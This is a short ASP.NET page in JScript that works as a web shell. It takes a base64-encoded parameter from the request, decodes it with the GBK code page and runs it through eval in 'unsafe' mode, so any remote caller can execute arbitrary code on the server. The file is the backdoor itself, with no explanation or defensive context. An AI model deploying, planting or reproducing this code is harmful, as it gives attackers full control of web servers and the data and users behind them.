<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var raw = Request.Item["e"];
    var dec = System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(raw));
    eval(dec, "unsafe");
}
</script>
